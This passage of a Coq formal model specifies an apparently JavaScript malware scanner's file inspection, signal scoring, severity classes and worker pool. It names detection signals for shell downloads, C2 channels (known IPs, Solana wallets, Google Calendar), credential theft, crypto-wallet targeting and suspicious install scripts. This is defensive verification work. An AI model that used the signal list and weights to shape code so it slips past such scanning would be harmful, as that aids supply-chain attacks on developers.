  | [] => None
  | (k', v) :: m' => if str_eqb k k' then Some v else assoc k m'
  end.

(** [v.name] for a non-null [v] and one of the property names the script
    reads ([scripts], [bin], [engines], [vscode], [activationEvents]):
    [None] is [undefined].  Only an object parsed from JSON can have them. *)
Definition get (v : json) (name : string) : option json :=
  match v with
  | JObject m => assoc (u name) m
  | _ => None
  end.

Definition decimal (n : nat) : jsstring :=
  u (DecimalString.NilZero.string_of_uint (Nat.to_uint n)).

Fixpoint indexed (i : nat) (l : list json) : list (jsstring * json) :=
  match l with
  | [] => []
  | v :: l' => (decimal i, v) :: indexed (S i) l'
  end.

(** [Object.entries(v)] for a non-null [v] *)
Definition Object_entries (v : json) : list (jsstring * json) :=
  match v with
  | JObject m => m
  | JArray l => indexed 0 l
  | JString s => indexed 0 (map (fun c => JString [c]) s)
  | _ => []
  end.

Fixpoint join (l : list jsstring) (sep : jsstring) : jsstring :=
  match l with
  | [] => []
  | [x] => x
  | x :: l' => x ++ sep ++ join l' sep
  end.

(** An object parsed from JSON has the own property [name]. *)
Definition has_own (name : string) (m : list (jsstring * json)) : bool :=
  match assoc (u name) m with
  | Some _ => true
  | None => false
  end.

Definition primitive_TypeError : Error :=
  {| err_name := "TypeError";
     err_message := "Cannot convert object to primitive value" |}.

(** ToString, as [RegExp.prototype.test] applies it to its argument, on
    the values [JSON.parse] gives.  An object is converted by the method
    [toString] it has or inherits.  No parsed value can be called, so an
    object with an own property [toString] has no such method; [valueOf],
    tried next, is not callable either or returns the object: a TypeError.
    Without the own property the inherited method gives
    [[object Object]].  An array is converted by the [join] of
    [Array.prototype], which converts the elements in turn ([null] to the
    empty string) and throws when one of them does. *)
Fixpoint ToString (P : Platform) (v : json) : completion jsstring :=
  match v with
  | JNull => Normal (u "null")
  | JBool true => Normal (u "true")
  | JBool false => Normal (u "false")
  | JNumber x => Normal (Number_toString P x)
  | JString s => Normal s
  | JArray l =>
      pieces <- (fix each (l : list json) : completion (list jsstring) :=
                   match l with
                   | [] => Normal []
                   | e :: l' =>
                       x <- match e with
                            | JNull => Normal []
                            | _ => ToString P e
                            end ;;
                       xs <- each l' ;;
                       Normal (x :: xs)
                   end) l ;;
      Normal (join pieces (u ","))
  | JObject m =>
      if has_own "toString" m then Throw primitive_TypeError
      else Normal (u "[object Object]")
  end.

(** A parsed value whose conversion to a string throws: an object with an
    own property [toString], or an array that holds such a value. *)
Fixpoint unconvertible (v : json) : bool :=
  match v with
  | JObject m => has_own "toString" m
  | JArray l => existsb unconvertible l
  | _ => false
  end.

(* ================================================================== *)
(** ** Signals, evidence and findings *)

Record Parts := {
  invisInIdentifier : bool;
  invisAnywhere : bool;
  suspiciousWords : bool;
  netFuncs : bool;
  dangerous : bool;
  shellDownload : bool;
  hardcodedIp : bool;
  b64UrlDecoded : bool;
  pkgPostInstall : bool;
  pkgExecNet : bool;
  fileIsExecutableScript : bool;
  knownC2Infrastructure : bool;
  solanaBlockchainC2 : bool;
  googleCalendarC2 : bool;
  credentialTheft : bool;
  vsCodeExtensionAPI : bool;
  cryptoWalletTargeting : bool;
  multipleSignals : nat
}.

(** The [details] object; an absent property is [None] (or [false]). *)
Record Details := {
  details_invisIdentifiers : option (list jsstring);
  details_suspiciousWords : option (jsstring * jsstring);   (* match, snippet *)
  details_ips : option (list jsstring);
  details_knownC2Ips : option (list jsstring);
  details_solanaWallets : option (list jsstring);
  details_hasKnownMaliciousWallet : bool;
  details_calendarUrls : option (list jsstring);
  details_credentialPatterns : option (list jsstring);
  details_targetedWallets : option (list jsstring);
  details_base64 : option (list (jsstring * jsstring));    (* b64Preview, decodedPreview *)
  details_pkgScripts : option (list (jsstring * json));
  details_pkgExecNet : option (list (jsstring * json));
  details_vsCodeEngine : option json;
  details_activationEvents : option json
}.

Inductive Level : Type := critical | high | medium | low.

Definition Level_eqb (a b : Level) : bool :=
  match a, b with
  | critical, critical | high, high | medium, medium | low, low => true
  | _, _ => false
  end.

(** The value of a retained signal: [true], or the signal count. *)
Inductive signal_value : Type :=
| VTrue
| VCount (n : nat).

Record Finding := {
  file : jsstring;
  level : Level;
  score : Z;
  signals : list (string * signal_value);
  details : Details
}.

(* ================================================================== *)
(** ** Scoring policy *)

Definition scoreFinding (parts : Parts) : Z :=
  let score := 0 in
  let score := if invisInIdentifier parts then score + 40 else score in
  let score := if invisAnywhere parts then score + 10 else score in
  let score := if suspiciousWords parts then score + 25 else score in
  let score := if netFuncs parts then score + 15 else score in
  let score := if dangerous parts then score + 25 else score in
  let score := if shellDownload parts then score + 35 else score in
  let score := if hardcodedIp parts then score + 20 else score in
  let score := if b64UrlDecoded parts then score + 45 else score in
  let score := if pkgPostInstall parts then score + 40 else score in
  let score := if pkgExecNet parts then score + 30 else score in
  let score := if fileIsExecutableScript parts then score + 10 else score in
  let score := if knownC2Infrastructure parts then score + 60 else score in
  let score := if solanaBlockchainC2 parts then score + 50 else score in
  let score := if googleCalendarC2 parts then score + 50 else score in
  let score := if credentialTheft parts then score + 35 else score in
  let score := if vsCodeExtensionAPI parts then score + 20 else score in
  let score := if cryptoWalletTargeting parts then score + 30 else score in
  let score := if Nat.leb 3 (multipleSignals parts) then score + 15 else score in
  Z.min score 100.

Definition classify (score : Z) : Level :=
  if 80 <=? score then critical
  else if 60 <=? score then high
  else if 40 <=? score then medium
  else low.

(* ================================================================== *)
(** ** File inspector *)

Definition no_parts : Parts :=
  {| invisInIdentifier := false; invisAnywhere := false; suspiciousWords := false;
     netFuncs := false; dangerous := false; shellDownload := false;
     hardcodedIp := false; b64UrlDecoded := false; pkgPostInstall := false;
     pkgExecNet := false; fileIsExecutableScript := false;
     knownC2Infrastructure := false; solanaBlockchainC2 := false;
     googleCalendarC2 := false; credentialTheft := false;
     vsCodeExtensionAPI := false; cryptoWalletTargeting := false;
     multipleSignals := 0 |}.

Definition no_details : Details :=
  {| details_invisIdentifiers := None; details_suspiciousWords := None;
     details_ips := None; details_knownC2Ips := None; details_solanaWallets := None;
     details_hasKnownMaliciousWallet := false; details_calendarUrls := None;
     details_credentialPatterns := None; details_targetedWallets := None;
     details_base64 := None; details_pkgScripts := None; details_pkgExecNet := None;
     details_vsCodeEngine := None; details_activationEvents := None |}.

(** Reading [m[0]] and [m.index] of [null] is a TypeError. *)
Definition null_TypeError : Error :=
  {| err_name := "TypeError"; err_message := "Cannot read properties of null" |}.

Definition is_private_ip (ip : jsstring) : bool :=
  startsWith ip (u "127.") || startsWith ip (u "0.") || startsWith ip (u "10.")
  || startsWith ip (u "192.168.") || startsWith ip (u "172.16.").

Definition nonempty {A} (l : list A) : bool :=
  match l with [] => false | _ => true end.

(** One turn of the loop over the base64 candidates: the hit it pushes. *)
Definition b64_hit (text : jsstring) (m : RegExp.Match) : option (jsstring * jsstring) :=
  let b64str :=
    match RegExp.group text m 1 with
    | Some (c :: g) => c :: g
    | _ => RegExp.matched text m
    end in
  match decodeB64 b64str with
  | None | Some [] => None
  | Some decoded =>
      if RegExp.test0 HTTP decoded || RegExp.test0 CALL_SHAPED decoded then
        Some (slice b64str 0 80
                ++ (if Nat.ltb 80 (List.length b64str) then [0x2026%N] else []),
              RegExp.String_replace (slice decoded 0 200) WHITESPACE (u " "))
      else None
  end.

Fixpoint somes {A} (l : list (option A)) : list A :=
  match l with
  | [] => []
  | Some x :: l' => x :: somes l'
  | None :: l' => somes l'
  end.

(** The branch of [inspect] for a file whose extension is not [.json].
    [lastIndex] is the property of the shared [INVIS] object, the one
    RegExp with the global flag that the script calls [test] on. *)
Definition inspect_source (textForRegex : jsstring) (lastIndex : nat)
  : completion (Parts * Details) * nat :=
  let matchId := RegExp.String_match textForRegex INVIS_ID in
  let inIdentifier := match matchId with Some (_ :: _) => true | _ => false end in
  let invis :=
    if inIdentifier then (false, lastIndex)
    else RegExp.test INVIS lastIndex textForRegex in
  let sus := RegExp.test0 SUS_WORDS textForRegex in
  let net := RegExp.test0 NET_FUNCS textForRegex in
  let dang := RegExp.test0 DANGEROUS textForRegex in
  let shell := RegExp.test0 SHELL_DOWNLOAD textForRegex in
  (susDetail <-
     (if sus then
        match fst (RegExp.exec SUS_WORDS 0 textForRegex) with
        | Some m => Normal (Some (RegExp.matched textForRegex m,
                                  sliceSnippet textForRegex (RegExp.index m) 140))
        | None => Throw null_TypeError
        end
      else Normal None) ;;
   ipMatches <- RegExp.String_matchAll textForRegex IP ;;
   let ips := filter (fun ip => negb (is_private_ip ip))
                     (map (RegExp.matched textForRegex) ipMatches) in
   let knownIps := filter (includes KNOWN_C2_IPS) ips in
   solana <-
     (if RegExp.test0 SOLANA_WALLET textForRegex then
        walletMatches <- RegExp.String_matchAll textForRegex SOLANA_WALLET ;;
        let wallets := map (RegExp.matched textForRegex) walletMatches in
        let hasKnownWallet := includes wallets KNOWN_SOLANA_WALLET in
        let hasSolanaKeywords := RegExp.test0 SOLANA_KEYWORDS textForRegex in
        if hasKnownWallet || (nonempty wallets && hasSolanaKeywords)
        then Normal (true, Some (slice (unique wallets) 0 5), hasKnownWallet)
        else Normal (false, None, false)
      else Normal (false, None, false)) ;;
   calendar <-
     (if RegExp.test0 CALENDAR textForRegex then
        urlMatches <- RegExp.String_matchAll textForRegex CALENDAR_URL ;;
        Normal (true, Some (slice (unique (map (RegExp.matched textForRegex) urlMatches)) 0 3))
      else Normal (false, None)) ;;
   credential <-
     (if RegExp.test0 CREDENTIAL_THEFT textForRegex then
        ms <- RegExp.String_matchAll textForRegex CREDENTIAL_THEFT ;;
        Normal (true, Some (slice (unique (map (RegExp.matched textForRegex) ms)) 0 5))
      else Normal (false, None)) ;;
   let vscode := RegExp.test0 VSCODE_EXTENSION_API textForRegex in
   crypto <-
     (if RegExp.test0 CRYPTO_WALLET_EXT textForRegex then
        ms <- RegExp.String_matchAll textForRegex CRYPTO_WALLET_EXT ;;
        Normal (true, Some (slice (unique (map (RegExp.matched textForRegex) ms)) 0 10))
      else Normal (false, None)) ;;
   b64Matches <- RegExp.String_matchAll textForRegex B64 ;;
   let b64Hits := somes (map (b64_hit textForRegex) (firstn 50 b64Matches)) in
   Normal
     ({| invisInIdentifier := inIdentifier;
         invisAnywhere := fst invis;
         suspiciousWords := sus;
         netFuncs := net;
         dangerous := dang;
         shellDownload := shell;
         hardcodedIp := nonempty ips;
         b64UrlDecoded := nonempty b64Hits;
         pkgPostInstall := false;
         pkgExecNet := false;
         fileIsExecutableScript := false;
         knownC2Infrastructure := nonempty ips && nonempty knownIps;
         solanaBlockchainC2 := fst (fst solana);
         googleCalendarC2 := fst calendar;
         credentialTheft := fst credential;
         vsCodeExtensionAPI := vscode;
         cryptoWalletTargeting := fst crypto;
         multipleSignals := 0 |},
      {| details_invisIdentifiers :=
           match matchId with
           | Some (x :: l) => Some (unique (slice (x :: l) 0 5))
           | _ => None
           end;
         details_suspiciousWords := susDetail;
         details_ips := if nonempty ips then Some (slice (unique ips) 0 8) else None;
         details_knownC2Ips :=
           if nonempty ips && nonempty knownIps then Some knownIps else None;
         details_solanaWallets := snd (fst solana);
         details_hasKnownMaliciousWallet := snd solana;
         details_calendarUrls := snd calendar;
         details_credentialPatterns := snd credential;
         details_targetedWallets := snd crypto;
         details_base64 := if nonempty b64Hits then Some (slice b64Hits 0 3) else None;
         details_pkgScripts := None;
         details_pkgExecNet := None;
         details_vsCodeEngine := None;
         details_activationEvents := None |}),
   snd invis).

(** The tests of one [scripts] entry.  Each [re.test(v)] converts [v]
    with ToString before it matches, and [HTTP.test(v)] is evaluated for
    every entry: the first conversion that throws ends the loop. *)
Definition nameHit (k : jsstring) : bool := RegExp.test0 LIFECYCLE k.
Definition netHit (P : Platform) (v : json) : completion bool :=
  s <- ToString P v ;;
  Normal (RegExp.test0 HTTP s || RegExp.test0 SHELL_DOWNLOAD s).
Definition execHit (P : Platform) (v : json) : completion bool :=
  s <- ToString P v ;;
  Normal (RegExp.test0 DANGEROUS s || RegExp.test0 INTERPRETER s).

(** [nameHit && (netHit || execHit)] of an entry of the loop, and the
    test of the [filter] that gives [execNet]. *)
Definition suspicious (P : Platform) (kv : jsstring * json) : completion bool :=
  net <- netHit P (snd kv) ;;
  exec <- execHit P (snd kv) ;;
  Normal (nameHit (fst kv) && (net || exec)).

Definition fetches_and_runs (P : Platform) (kv : jsstring * json) : completion bool :=
  s <- ToString P (snd kv) ;;
  Normal (RegExp.test0 HTTP s && RegExp.test0 SHELL_OR_FETCHER s).

(** The entries that pass a test which may throw, as the loop over the
    entries and [Array.prototype.filter] collect them. *)
Fixpoint filter_try {A} (f : A -> completion bool) (l : list A) : completion (list A) :=
  match l with
  | [] => Normal []
  | x :: l' =>
      b <- f x ;;
      rest <- filter_try f l' ;;
      Normal (if b then x :: rest else rest)
  end.

Definition JSON_SyntaxError : Error :=
  {| err_name := "SyntaxError"; err_message := "Unexpected token in JSON" |}.

(** The statements inside the [try] of the branch for [package.json],
    with the signals and the evidence they set when none of them throws.
    [JSON.parse], the read of [pj.scripts] on [null] and the conversion of
    a script value can throw. *)
Definition manifest_try (P : Platform) (text : jsstring) : completion (Parts * Details) :=
  match JSON_parse P text with
  | None => Throw JSON_SyntaxError
  | Some JNull => Throw null_TypeError
  | Some pj =>
      let scripts :=
        match get pj "scripts" with
        | Some v => if truthy v then v else JObject []
        | None => JObject []
        end in
      sus <- filter_try (suspicious P) (Object_entries scripts) ;;
      execNet <- (if nonempty sus then Normal []
                  else filter_try (fetches_and_runs P) (Object_entries scripts)) ;;
      let hasBin :=
        match get pj "bin" with
        | Some (JObject m) => nonempty m
        | Some (JArray l) => nonempty l
        | _ => false
        end in
      let vsCodeEngine :=
        match get pj "engines" with
        | Some engines =>
            if truthy engines then
              match get engines "vscode" with
              | Some v => if truthy v then Some v else None
              | None => None
              end
            else None
        | None => None
        end in
      Normal
      ({| invisInIdentifier := false; invisAnywhere := false; suspiciousWords := false;
          netFuncs := false; dangerous := false; shellDownload := false;
          hardcodedIp := false; b64UrlDecoded := false;
          pkgPostInstall := nonempty sus;
          pkgExecNet := negb (nonempty sus) && nonempty execNet;
          fileIsExecutableScript := hasBin;
          knownC2Infrastructure := false; solanaBlockchainC2 := false;
          googleCalendarC2 := false; credentialTheft := false;
          vsCodeExtensionAPI := match vsCodeEngine with Some _ => true | None => false end;
          cryptoWalletTargeting := false;
          multipleSignals := 0 |},
       {| details_invisIdentifiers := None; details_suspiciousWords := None;
          details_ips := None; details_knownC2Ips := None; details_solanaWallets := None;
          details_hasKnownMaliciousWallet := false; details_calendarUrls := None;
          details_credentialPatterns := None; details_targetedWallets := None;
          details_base64 := None;
          details_pkgScripts := if nonempty sus then Some sus else None;
          details_pkgExecNet :=
            if negb (nonempty sus) && nonempty execNet then Some (slice execNet 0 5)
            else None;
          details_vsCodeEngine := vsCodeEngine;
          details_activationEvents :=
            match vsCodeEngine with
            | Some _ =>
                match get pj "activationEvents" with
                | Some a => if truthy a then Some a else None
                | None => None
                end
            | None => None
            end |})
  end.

(** The branch of [inspect] for [package.json].  Whatever throws inside
    the [try] does so before the first signal is set, and the [catch] is
    empty: a throw leaves no signal and no evidence. *)
Definition inspect_manifest (P : Platform) (text : jsstring) : Parts * Details :=
  match manifest_try P text with
  | Normal r => r
  | Throw _ => (no_parts, no_details)
  end.

(** [parts.multipleSignals = [...].filter(Boolean).length] *)
Definition count_signals (parts : Parts) : nat :=
  List.length
    (filter (fun b : bool => b)
       [invisInIdentifier parts; suspiciousWords parts; netFuncs parts; dangerous parts;
        shellDownload parts; hardcodedIp parts; b64UrlDecoded parts; pkgPostInstall parts;
        pkgExecNet parts; solanaBlockchainC2 parts; googleCalendarC2 parts;
        credentialTheft parts; cryptoWalletTargeting parts]).

Definition set_multipleSignals (parts : Parts) (n : nat) : Parts :=
  {| invisInIdentifier := invisInIdentifier parts;
     invisAnywhere := invisAnywhere parts;
     suspiciousWords := suspiciousWords parts;
     netFuncs := netFuncs parts;
     dangerous := dangerous parts;
     shellDownload := shellDownload parts;
     hardcodedIp := hardcodedIp parts;
     b64UrlDecoded := b64UrlDecoded parts;
     pkgPostInstall := pkgPostInstall parts;
     pkgExecNet := pkgExecNet parts;
     fileIsExecutableScript := fileIsExecutableScript parts;
     knownC2Infrastructure := knownC2Infrastructure parts;
     solanaBlockchainC2 := solanaBlockchainC2 parts;
     googleCalendarC2 := googleCalendarC2 parts;
     credentialTheft := credentialTheft parts;
     vsCodeExtensionAPI := vsCodeExtensionAPI parts;
     cryptoWalletTargeting := cryptoWalletTargeting parts;
     multipleSignals := n |}.

(** [Object.fromEntries(Object.entries(parts).filter(([,v]) => v))] *)
Definition truthy_signals (parts : Parts) : list (string * signal_value) :=
  let flag (name : string) (b : bool) := if b then [(name, VTrue)] else [] in
  flag "invisInIdentifier" (invisInIdentifier parts)
  ++ flag "invisAnywhere" (invisAnywhere parts)
  ++ flag "suspiciousWords" (suspiciousWords parts)
  ++ flag "netFuncs" (netFuncs parts)
  ++ flag "dangerous" (dangerous parts)
  ++ flag "shellDownload" (shellDownload parts)
  ++ flag "hardcodedIp" (hardcodedIp parts)
  ++ flag "b64UrlDecoded" (b64UrlDecoded parts)
  ++ flag "pkgPostInstall" (pkgPostInstall parts)
  ++ flag "pkgExecNet" (pkgExecNet parts)
  ++ flag "fileIsExecutableScript" (fileIsExecutableScript parts)
  ++ flag "knownC2Infrastructure" (knownC2Infrastructure parts)
  ++ flag "solanaBlockchainC2" (solanaBlockchainC2 parts)
  ++ flag "googleCalendarC2" (googleCalendarC2 parts)
  ++ flag "credentialTheft" (credentialTheft parts)
  ++ flag "vsCodeExtensionAPI" (vsCodeExtensionAPI parts)
  ++ flag "cryptoWalletTargeting" (cryptoWalletTargeting parts)
  ++ match multipleSignals parts with
     | O => []
     | n => [("multipleSignals", VCount n)]
     end.

(** The end of [inspect]: the signal count, the score, the class, the
    low-severity filter and the finding. [None] is [null]. *)
Definition inspect_conclude (cfg : Config) (file : jsstring) (parts : Parts)
  (details : Details) : option Finding :=
  let parts := set_multipleSignals parts (count_signals parts) in
  let score := scoreFinding parts in
  let level := classify score in
  if Level_eqb level low && negb (INCLUDE_LOW cfg) then
    if number_lt (number_of_Z score) (MIN_SCORE cfg) then None
    else Some {| file := file; level := level; score := score;
                 signals := truthy_signals parts; details := details |}
  else Some {| file := file; level := level; score := score;
               signals := truthy_signals parts; details := details |}.

(** [inspect(file)]: how the promise settles, and the [lastIndex] of
    [INVIS] afterwards. *)
Definition inspect (P : Platform) (cfg : Config) (file : jsstring) (lastIndex : nat)
  : completion (option Finding) * nat :=
  let base := path_basename file in
  if ignoreName base then (Normal None, lastIndex) else
  match fs_stat P file with
  | None => (Normal None, lastIndex)
  | Some st =>
      if N.ltb MAX_BYTES (size st) then (Normal None, lastIndex) else
      let ext := toLowerCase (path_extname file) in
      if negb (jsLike ext file) then (Normal None, lastIndex) else
      match fs_readFile P file with
      | None => (Normal None, lastIndex)
      | Some buf =>
          if isBinaryLikely buf then (Normal None, lastIndex) else
          let text := Buffer_toString buf in
          let textForRegex :=
            if N.ltb 500000 (N.of_nat (List.length text))
            then slice text 0 (N.to_nat 500000) else text in
          let extracted :=
            if negb (str_eqb ext (u ".json")) then inspect_source textForRegex lastIndex
            else if str_eqb (path_basename file) (u "package.json")
                 then (Normal (inspect_manifest P text), lastIndex)
                 else (Normal (no_parts, no_details), lastIndex) in
          (pd <- fst extracted ;;
           Normal (inspect_conclude cfg file (fst pd) (snd pd)),
           snd extracted)
      end
  end.

(* ================================================================== *)
(** ** The worker pool of [main] *)

Definition CONCURRENCY (P : Platform) : nat := Nat.max 2 (Nat.div (cpus P) 2).

Record SkipRecord := { skip_file : jsstring; skip_reason : string }.

(** A worker is about to call [queue.pop()], is suspended at its [await],
    or has left its loop. *)
Inductive worker : Type :=
| Polling
| Awaiting (f : jsstring)
| Returned.

(** The variables the workers share, the workers themselves, the
    [lastIndex] of [INVIS], and the inspections whose race was lost to the
    timer and which are still pending. *)
Record Scan := {
  queue : list jsstring;
  workers : list worker;
  out : list Finding;
  skipped : list SkipRecord;
  processed : nat;
  INVIS_lastIndex : nat;
  abandoned : list jsstring
}.

Definition timeout_Error : Error := {| err_name := "Error"; err_message := "timeout" |}.

(** How long [inspect(file)] stays suspended at its [await]s: not at all
    when the name is ignored (it returns before the first [await]), else
    until the awaited file operations are through. *)
Definition inspect_wait (P : Platform) (file : jsstring) : N :=
  if ignoreName (path_basename file) then 0%N else io_time P file.

(** How long the inspection of a file takes, from the call of
    [inspect(file)] until its promise settles, when nothing else holds the
    event loop: the wait, then the matching. *)
Definition inspection_time (P : Platform) (file : jsstring) : N :=
  if ignoreName (path_basename file) then 0%N
  else (io_time P file + cpu_time P file)%N.

Fixpoint set_nth {A} (n : nat) (x : A) (l : list A) : list A :=
  match l, n with
  | [], _ => []
  | _ :: l', O => x :: l'
  | y :: l', S n' => y :: set_nth n' x l'
  end.

(** The body of the worker loop after its [await]: the [try] continues or
    the [catch] runs, then [processed++]. *)
Definition worker_continue (s : Scan) (f : jsstring) (r : completion (option Finding))
  : Scan :=
  {| queue := queue s;
     workers := workers s;
     out := match r with
            | Normal (Some finding) => out s ++ [finding]
            | _ => out s
            end;
     skipped := match r with
                | Throw err =>
                    if String.eqb (err_message err) "timeout"
                    then skipped s ++ [{| skip_file := f; skip_reason := "timeout" |}]
                    else skipped s
                | _ => skipped s
                end;
     processed := S (processed s);
     INVIS_lastIndex := INVIS_lastIndex s;
     abandoned := abandoned s |}.

Definition with_worker (s : Scan) (w : nat) (st : worker) : Scan :=
  {| queue := queue s; workers := set_nth w st (workers s); out := out s;
     skipped := skipped s; processed := processed s;
     INVIS_lastIndex := INVIS_lastIndex s; abandoned := abandoned s |}.

Definition with_queue (s : Scan) (q : list jsstring) : Scan :=
  {| queue := q; workers := workers s; out := out s;
     skipped := skipped s; processed := processed s;
     INVIS_lastIndex := INVIS_lastIndex s; abandoned := abandoned s |}.

Definition with_lastIndex (s : Scan) (li : nat) : Scan :=
  {| queue := queue s; workers := workers s; out := out s;
     skipped := skipped s; processed := processed s;
     INVIS_lastIndex := li; abandoned := abandoned s |}.

Definition with_abandoned (s : Scan) (l : list jsstring) : Scan :=
  {| queue := queue s; workers := workers s; out := out s;
     skipped := skipped s; processed := processed s;
     INVIS_lastIndex := INVIS_lastIndex s; abandoned := l |}.

(** What happens in one turn of the event loop. *)
Inductive event : Type :=
| Pop (w : nat) (f : jsstring)             (* a worker takes the last path *)
| Stop (w : nat)                           (* a worker finds the queue empty *)
| Settled (w : nat) (f : jsstring) (r : completion (option Finding))
                                           (* the race of a worker settles *)
| Late (f : jsstring).                     (* an abandoned inspection ends *)

Section Pool.
Variable P : Platform.
Variable cfg : Config.

(** [Promise.race] settles as the first of its two promises does.  The
    promise of [inspect] settles in the turn of the event loop that
    resumes it after its last [await]: the matching that follows runs in
    that turn to its end, however long it takes.  The timer rejects with
    [Error('timeout')] in the first turn that starts once its delay has
    passed.  So [inspect] comes first only if its wait is within the delay
    of the timer.  The timer can come first whenever [inspect] waits at
    all, however short the wait is: a turn starts when the one before it
    has ended, so the matching of the other workers, which run on the same
    thread, can hold the loop until the timer is due; and Node counts the
    delay from the time at which the current turn began, so a timer that
    is set after a long matching in the same turn is due early. *)
Inductive step : Scan -> event -> Scan -> Prop :=
| step_pop s w q f :
    nth_error (workers s) w = Some Polling ->
    queue s = q ++ [f] ->
    step s (Pop w f) (with_worker (with_queue s q) w (Awaiting f))
| step_stop s w :
    nth_error (workers s) w = Some Polling ->
    queue s = [] ->
    step s (Stop w) (with_worker s w Returned)
| step_inspected s w f :
    nth_error (workers s) w = Some (Awaiting f) ->
    (inspect_wait P f <= timer_delay (INSPECT_TIMEOUT cfg))%N ->
    step s (Settled w f (fst (inspect P cfg f (INVIS_lastIndex s))))
         (with_worker
            (worker_continue
               (with_lastIndex s (snd (inspect P cfg f (INVIS_lastIndex s))))
               f (fst (inspect P cfg f (INVIS_lastIndex s))))
            w Polling)
| step_timed_out s w f :
    nth_error (workers s) w = Some (Awaiting f) ->
    ignoreName (path_basename f) = false ->
    step s (Settled w f (Throw timeout_Error))
         (with_worker
            (worker_continue (with_abandoned s (f :: abandoned s)) f (Throw timeout_Error))
            w Polling)
| step_late s l f l' :
    abandoned s = l ++ f :: l' ->
    step s (Late f)
         (with_abandoned
            (with_lastIndex s (snd (inspect P cfg f (INVIS_lastIndex s))))
            (l ++ l')).

(** The states reached from [s0], with the events that led there. *)
Inductive reaches (s0 : Scan) : list event -> Scan -> Prop :=
| reaches_start : reaches s0 [] s0
| reaches_step tr s e s' :
    reaches s0 tr s -> step s e s' -> reaches s0 (tr ++ [e]) s'.

(** The state in which [main] creates its workers. *)
Definition start (files : list jsstring) : Scan :=
  {| queue := files; workers := repeat Polling (CONCURRENCY P); out := [];
     skipped := []; processed := 0; INVIS_lastIndex := 0; abandoned := [] |}.

(** [await Promise.all(workers)] is through. *)
Definition all_returned (s : Scan) : Prop :=
  Forall (fun w => w = Returned) (workers s).
End Pool.

(** *** Reading a run of the pool *)

(** The paths whose race has settled, the findings and the skip records
    that the settled races gave, in the order of the events. *)
Definition settled_files (tr : list event) : list jsstring :=
  flat_map (fun e => match e with Settled _ f _ => [f] | _ => [] end) tr.

Definition findings_of (tr : list event) : list Finding :=
  flat_map (fun e => match e with
                     | Settled _ _ (Normal (Some finding)) => [finding]
                     | _ => []
                     end) tr.

Definition skips_of (tr : list event) : list SkipRecord :=
  flat_map (fun e => match e with
                     | Settled _ f (Throw err) =>
                         if String.eqb (err_message err) "timeout"
                         then [{| skip_file := f; skip_reason := "timeout" |}]
                         else []
                     | _ => []
                     end) tr.

(** The paths the suspended workers wait for. *)
Definition awaiting (ws : list worker) : list jsstring :=
  flat_map (fun w => match w with Awaiting f => [f] | _ => [] end) ws.

(** How often a path occurs in a list of paths. *)
Definition occurrences (f : jsstring) (l : list jsstring) : nat :=
  List.length (filter (str_eqb f) l).

(** The work that is left in a state: it shrinks with every event. *)
Definition worker_weight (w : worker) : nat :=
  match w with Polling => 1 | Awaiting _ => 3 | Returned => 0 end.

Definition remaining_work (s : Scan) : nat :=
  5 * List.length (queue s)
  + list_sum (map worker_weight (workers s))
  + List.length (abandoned s).

(** A settled race is either the timer's rejection, of an inspection
    that waits, or what [inspect] gave, its wait being within the delay of
    the timer. *)
Definition legitimate (P : Platform) (cfg : Config) (e : event) : Prop :=
  match e with
  | Settled _ f r =>
      (r = Throw timeout_Error /\ ignoreName (path_basename f) = false)
      \/ ((inspect_wait P f <= timer_delay (INSPECT_TIMEOUT cfg))%N
          /\ exists lastIndex, r = fst (inspect P cfg f lastIndex))
  | _ => True
  end.

(** What holds of every state of a scan of [files], and of the events
    that led to it. *)
Record pool_invariant (P : Platform) (cfg : Config) (files : list jsstring)
    (tr : list event) (s : Scan) : Prop := {
  inv_files : Permutation files (queue s ++ awaiting (workers s) ++ settled_files tr);
  inv_processed : processed s = List.length (settled_files tr);
  inv_out : out s = findings_of tr;
  inv_skipped : skipped s = skips_of tr;
  inv_events : Forall (legitimate P cfg) tr;
  inv_drained : In Returned (workers s) -> queue s = [];
  inv_pool : List.length (workers s) = CONCURRENCY P
}.

(* ================================================================== *)
(** ** The scoring table of the specification *)

(** The weight table of section 4.3, row by row: the signal and its
    points. *)
Definition weight_table : list ((Parts -> bool) * Z) :=
  [ (knownC2Infrastructure, 60);
    (solanaBlockchainC2, 50);
    (googleCalendarC2, 50);
    (b64UrlDecoded, 45);
    (invisInIdentifier, 40);
    (pkgPostInstall, 40);
    (credentialTheft, 35);
    (shellDownload, 35);
    (cryptoWalletTargeting, 30);
    (pkgExecNet, 30);
    (dangerous, 25);
    (suspiciousWords, 25);
    (vsCodeExtensionAPI, 20);
    (hardcodedIp, 20);
    (netFuncs, 15);
    ((fun parts => Nat.leb 3 (multipleSignals parts)), 15);
    (invisAnywhere, 10);
    (fileIsExecutableScript, 10) ].

(** The contributions of the signals that are set, summed and saturated
    at 100. *)
Definition table_score (parts : Parts) : Z :=
  Z.min (fold_right (fun (row : (Parts -> bool) * Z) acc =>
                       (if fst row parts then snd row else 0) + acc)
                    0 weight_table)
        100.

Definition flags (parts : Parts) : list bool :=
  [invisInIdentifier parts; invisAnywhere parts; suspiciousWords parts; netFuncs parts;
   dangerous parts; shellDownload parts; hardcodedIp parts; b64UrlDecoded parts;
   pkgPostInstall parts; pkgExecNet parts; fileIsExecutableScript parts;
   knownC2Infrastructure parts; solanaBlockchainC2 parts; googleCalendarC2 parts;
   credentialTheft parts; vsCodeExtensionAPI parts; cryptoWalletTargeting parts].

(** [q] has every signal of [p], and maybe more. *)
Definition more_signals (p q : Parts) : Prop :=
  Forall2 (fun a b : bool => a = true -> b = true) (flags p) (flags q)
  /\ (multipleSignals p <= multipleSignals q)%nat.

(** The bytes [isBinaryLikely] counts as weird. *)
Definition weird_byte (b : byte) : bool :=
  let c := Byte.to_N b in N.ltb c 9 || (N.ltb 13 c && N.ltb c 32).

Definition zero_byte (b : byte) : bool := N.eqb (Byte.to_N b) 0.

(* ================================================================== *)
(** ** Sample platforms and files *)

Definition ascii_bytes (s : string) : Buffer :=
  map byte_of_ascii (list_ascii_of_string s).

(** JSON text, written with an apostrophe where the file has a double
    quote. *)
Definition json_bytes (s : string) : Buffer :=
  map (fun b => match b with x27 => x22 | _ => b end) (ascii_bytes s).

(** A file of a sample tree: its path, its content, what [JSON.parse]
    makes of the content, how long reading it takes and how long matching
    it takes. *)
Record SampleFile := {
  sample_path : jsstring;
  sample_content : Buffer;
  sample_parsed : option json;
  sample_io_time : N;
  sample_cpu_time : N
}.

Fixpoint sample_find (files : list SampleFile) (p : jsstring) : option SampleFile :=
  match files with
  | [] => None
  | f :: files' => if str_eqb p (sample_path f) then Some f else sample_find files' p
  end.

